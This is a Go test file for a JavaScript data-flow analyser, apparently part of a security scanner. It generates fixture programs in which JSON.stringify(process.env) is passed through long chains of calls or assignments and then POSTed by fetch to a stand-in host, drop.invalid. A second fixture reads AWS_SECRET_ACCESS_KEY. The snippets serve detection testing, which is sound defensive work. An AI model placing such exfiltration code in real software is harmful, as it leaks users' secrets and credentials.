package jssyntax_test

import (
	"fmt"
	"strings"
	"testing"

	"github.com/lamina-sec/lamina/internal/jssyntax"
)

// calls is a program that hands the environment through n functions, each of which
// stands in front of the one that calls it, to the one that sends it.
func calls(n int) string {
	var b strings.Builder
	b.WriteString("function f0(v) { fetch('https://drop.invalid', { method: 'POST', body: v }); }\n")
	for i := range n {
		fmt.Fprintf(&b, "function f%d(v) { f%d(v); }\n", i+1, i)
	}
	fmt.Fprintf(&b, "f%d(JSON.stringify(process.env));\n", n)
	return b.String()
}

// assignments is a program whose loop moves the environment through n names, one
// in each round.
func assignments(n int) string {
	var b strings.Builder
	b.WriteString("let a0")
	for i := range n {
		fmt.Fprintf(&b, ", a%d", i+1)
	}
	b.WriteString(";\nfunction step() {\n  fetch('https://drop.invalid', { method: 'POST', body: a0 });\n")
	for i := range n {
		fmt.Fprintf(&b, "  a%d = a%d;\n", i, i+1)
	}
	fmt.Fprintf(&b, "  a%d = JSON.stringify(process.env);\n}\nsetInterval(step, 1000);\n", n)
	return b.String()
}

// A value is followed through as many functions and names as there are, or the
// facts say that they are not whole.
func TestParse_long_chains(t *testing.T) {
	for name, program := range map[string]func(int) string{"calls": calls, "assignments": assignments} {
		for _, n := range []int{1, 3, 5, 40, 200, 600} {
			f := jssyntax.Parse(program(n))
			if len(f.Flows) == 0 && !f.Truncated {
				t.Errorf("%d %s: no flow, and nothing says that the file was not followed to its end", n, name)
			}
			if n <= 200 && (len(f.Flows) == 0 || f.Truncated) {
				t.Errorf("%d %s: %d flows, truncated %v", n, name, len(f.Flows), f.Truncated)
			}
		}
	}
}

// What goes back and forth between two values comes to rest.
func TestParse_rests(t *testing.T) {
	src := `let mode, key = process.env.AWS_SECRET_ACCESS_KEY;
function a() { mode = 'a'; b(key); }
function b(v) { mode = require('http'); a(v); }
function c() { mode = process.env; mode = 1; mode = [key]; }
a(); c();
`
	if f := jssyntax.Parse(src); f.Truncated {
		t.Error("a small file was not followed to its end")
	}
}
